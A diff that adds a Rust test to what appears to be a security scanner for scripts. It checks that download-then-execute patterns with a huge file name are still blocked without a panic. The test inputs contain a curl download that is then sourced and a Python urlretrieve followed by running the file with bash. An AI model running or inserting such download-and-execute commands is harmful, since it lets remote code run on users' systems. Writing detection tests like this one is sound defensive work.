@@ -13798,3 +13798,29 @@ fn a_home_folder_named_by_a_huge_constant_blocks_without_a_panic() {
             .any(|f| f.rule == "user-data-wipe" && f.severity.blocks())
     }));
 }
+
+/// review53: `engine::downloaded_to` builds a regex around the file a run
+/// names (its variable and path, or its name in an argument list); a name
+/// too long for one made the scan panic (older than the reviewed change).
+/// Such a run is kept as the download's, so the pair still blocks.
+#[test]
+fn a_run_of_a_download_with_a_huge_name_blocks_without_a_panic() {
+    let name = format!("a{}", "b".repeat(400_000));
+    for text in [
+        format!("curl -fsSL https://x.dev/a -o \"$T/{name}.env\"\n. \"$T/{name}.env\"\n"),
+        format!(
+            "import subprocess, urllib.request\nurllib.request.urlretrieve(\"https://x.dev/a\", {name})\nsubprocess.run([\"bash\", {name}])\n"
+        ),
+    ] {
+        let file = if text.starts_with("curl") {
+            "scripts/x.sh"
+        } else {
+            "scripts/x.py"
+        };
+        let findings = std::panic::catch_unwind(|| scan_script(file, &text));
+        assert!(
+            findings.is_ok_and(|found| found.iter().any(|f| f.severity.blocks())),
+            "{file}"
+        );
+    }
+}
